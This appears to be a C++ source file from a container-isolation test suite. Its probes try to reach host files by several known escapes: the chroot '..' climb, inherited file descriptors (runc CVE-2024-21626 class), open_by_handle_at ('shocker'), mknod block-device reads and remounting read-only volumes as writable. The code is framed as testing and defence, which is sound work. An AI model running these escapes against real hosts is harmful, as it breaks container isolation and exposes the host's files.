// attacks_files.cpp: attacks that reach the host's files from inside the
// root the container was given, or write into that root.
#include <fcntl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdlib>
#include <cstring>
#include <utility>
#include <vector>

#include "probe.hpp"

namespace probe {

namespace {

// In a child (in_child): chroot into a fresh subdirectory, which leaves the
// working directory *outside* the new root; from there ".." is never
// stopped at the root, so it climbs to the real "/".
std::string escape_chroot(const Args& args) {
    const std::string& dir = args[0];
    if (chroot(dir.c_str()) != 0) return "blocked chroot=" + errno_name(errno);
    for (int i = 0; i < 64; ++i) (void)!chdir("..");
    int err = chroot(".") == 0 ? 0 : errno;
    std::string content = err == 0 ? first_line(args[1], &err) : "";
    return err == 0 ? "success read=" + content : "blocked open=" + errno_name(err);
}

// Hex digits to bytes ("2f21" -> {0x2f, 0x21}); empty if they are not hex.
std::vector<unsigned char> from_hex(const std::string& hex) {
    std::vector<unsigned char> bytes;
    if (hex.size() % 2 != 0) return {};
    for (size_t i = 0; i < hex.size(); i += 2) {
        char* end = nullptr;
        std::string pair = hex.substr(i, 2);
        unsigned long byte = std::strtoul(pair.c_str(), &end, 16);
        if (*end != '\0') return {};
        bytes.push_back(static_cast<unsigned char>(byte));
    }
    return bytes;
}

}  // namespace

// The classic chroot escape: reads the first line of the host file PATH.
// Needs root (CAP_SYS_CHROOT) and a scratch directory in /tmp, which it
// removes. Runs in a child so that the probe itself stays where it was.
int chroot_escape(const Args& args) {
    std::string target = arg(args, 0);
    char dir[] = "/tmp/escape.XXXXXX";
    if (mkdtemp(dir) == nullptr)
        return report("chroot-escape", false, "mkdtemp=" + errno_name(errno));
    std::string outcome = in_child(escape_chroot, {dir, target});
    rmdir(dir);
    return report("chroot-escape", outcome);
}

// The runc CVE-2024-21626 class: a file descriptor the runtime was given
// (or opened itself) and did not close reaches the container, and with it
// the file it refers to, wherever that file is. Looks at every fd above 2
// (up to the open-files limit, getrlimit(2)), as an attacker who knows
// nothing would, and reads the first regular file among them from its
// start. Only reads.
int inherited_fd(const Args&) {
    long limit = std::min(sysconf(_SC_OPEN_MAX), 1L << 16);
    std::string seen;
    for (int fd = 3; fd < limit; ++fd) {
        struct stat st {};
        if (fstat(fd, &st) != 0) continue;
        seen += (seen.empty() ? "" : ",") + std::to_string(fd);
        if (!S_ISREG(st.st_mode)) continue;
        int err = 0;
        std::string content = first_line_of(fd, &err);
        if (err == 0)
            return report("inherited-fd", true, "fd=" + std::to_string(fd) + " read=" + content);
    }
    return report("inherited-fd", false, "open_fds=" + (seen.empty() ? "none" : seen));
}

// The 2014 "shocker" escape: open_by_handle_at(2) opens a file by its
// handle (on ext4: inode and generation numbers), with no path at all, so
// no root directory or mount stands in the way. It only needs
// CAP_DAC_READ_SEARCH and any fd on the same filesystem: the container's
// "/", when the rootfs is a directory of the host's filesystem. The
// original guessed handles; here the test hands over the handle of a file
// it made (TYPE and HEX, from name_to_handle_at(2)). Only reads.
int open_by_handle(const Args& args) {
    int type = std::atoi(arg(args, 0).c_str());
    std::vector<unsigned char> bytes = from_hex(arg(args, 1));
    if (bytes.empty()) return usage();
    std::vector<unsigned char> storage(sizeof(file_handle) + bytes.size());
    auto* handle = reinterpret_cast<file_handle*>(storage.data());
    handle->handle_bytes = static_cast<unsigned>(bytes.size());
    handle->handle_type = type;
    std::memcpy(handle->f_handle, bytes.data(), bytes.size());
    int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (root < 0) return report("open-by-handle", false, "open=" + errno_name(errno));
    int fd = open_by_handle_at(root, handle, O_RDONLY | O_CLOEXEC);
    int err = fd < 0 ? errno : 0;
    close(root);
    if (err != 0) return report("open-by-handle", false, "open_by_handle_at=" + errno_name(err));
    std::string content = first_line_of(fd, &err);
    close(fd);
    if (err != 0) return report("open-by-handle", false, "read=" + errno_name(err));
    return report("open-by-handle", true, "read=" + content);
}

// Creates PATH holding TEXT: does it land in the user's rootfs, on the host?
// (The test runs it on a throwaway copy of the rootfs.)
int write_rootfs(const Args& args) {
    std::string path = arg(args, 0), text = arg(args, 1) + "\n";
    int fd = open(path.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_NOFOLLOW | O_CLOEXEC, 0644);
    if (fd < 0) return report("write-rootfs", false, "open=" + errno_name(errno));
    int err = write(fd, text.data(), text.size()) == static_cast<ssize_t>(text.size()) ? 0 : errno;
    close(fd);
    return report("write-rootfs", err == 0, "write=" + errno_name(err));
}

// Rewrites the existing file PATH (never creates one) with TEXT: a host
// file the test shared through a volume, owned by host root, mode 0644.
// Root may; the container's root of chapter 07 is uid 100000 on the host,
// and the kernel checks *that* against the file's owner (EACCES).
int overwrite(const Args& args) {
    std::string path = arg(args, 0), text = arg(args, 1) + "\n";
    int fd = open(path.c_str(), O_WRONLY | O_TRUNC | O_NOFOLLOW | O_CLOEXEC);
    if (fd < 0) return report("overwrite", false, "open=" + errno_name(errno));
    int err = write(fd, text.data(), text.size()) == static_cast<ssize_t>(text.size()) ? 0 : errno;
    close(fd);
    return report("overwrite", err == 0, "write=" + errno_name(err));
}

// Makes a block device node MAJOR:MINOR (the test's loop device over a file
// holding a marker) and reads its first line: a disk of the host, read
// whole, past every file permission. mknod(2) needs CAP_MKNOD in the
// *initial* user namespace, and the node must sit on a filesystem mounted
// without nodev: it tries /dev, /tmp, then /. Removes the node.
int mknod_read(const Args& args) {
    dev_t device = makedev(static_cast<unsigned>(std::atoi(arg(args, 0).c_str())),
                           static_cast<unsigned>(std::atoi(arg(args, 1).c_str())));
    std::string tried;
    for (const char* dir : {"/dev", "/tmp", ""}) {
        std::string node = std::string(dir) + "/probe-disk";
        std::string where = *dir ? dir : "/";
        if (mknod(node.c_str(), S_IFBLK | 0600, device) != 0) {
            tried += " mknod" + std::string(dir) + "=" + errno_name(errno);
            continue;
        }
        int err = 0;
        std::string line = first_line(node, &err);
        unlink(node.c_str());
        if (err == 0) return report("mknod-read", true, "node=" + where + " read=" + line);
        tried += " open" + std::string(dir) + "=" + errno_name(err);
    }
    return report("mknod-read", false, tried.substr(1));
}

// Makes the read-only volume DIR writable again: a remount without
// MS_RDONLY. The mount's other flags (nosuid, nodev, noexec, atime) are
// kept, as a user namespace requires of the flags it locked. Then writes a
// file in DIR (and removes it). Needs CAP_SYS_ADMIN over the mount's
// namespace, which the container's root has in 07 too, in its own.
int remount_rw(const Args& args) {
    std::string dir = arg(args, 0);
    struct statvfs st {};
    if (statvfs(dir.c_str(), &st) != 0)
        return report("remount-rw", false, "statvfs=" + errno_name(errno));
    unsigned long flags = MS_REMOUNT | MS_BIND;
    const std::pair<unsigned long, unsigned long> kept[] = {
        {ST_NOSUID, MS_NOSUID},   {ST_NODEV, MS_NODEV},           {ST_NOEXEC, MS_NOEXEC},
        {ST_NOATIME, MS_NOATIME}, {ST_NODIRATIME, MS_NODIRATIME}, {ST_RELATIME, MS_RELATIME}};
    for (auto [st_flag, ms_flag] : kept)
        if (st.f_flag & st_flag) flags |= ms_flag;
    if (mount(nullptr, dir.c_str(), nullptr, flags, nullptr) != 0)
        return report("remount-rw", false, "mount=" + errno_name(errno));
    std::string file = dir + "/probe-remounted";
    int fd = open(file.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
    if (fd < 0) return report("remount-rw", false, "mount=OK open=" + errno_name(errno));
    close(fd);
    unlink(file.c_str());
    return report("remount-rw", true, "mount=OK open=OK");
}

}  // namespace probe
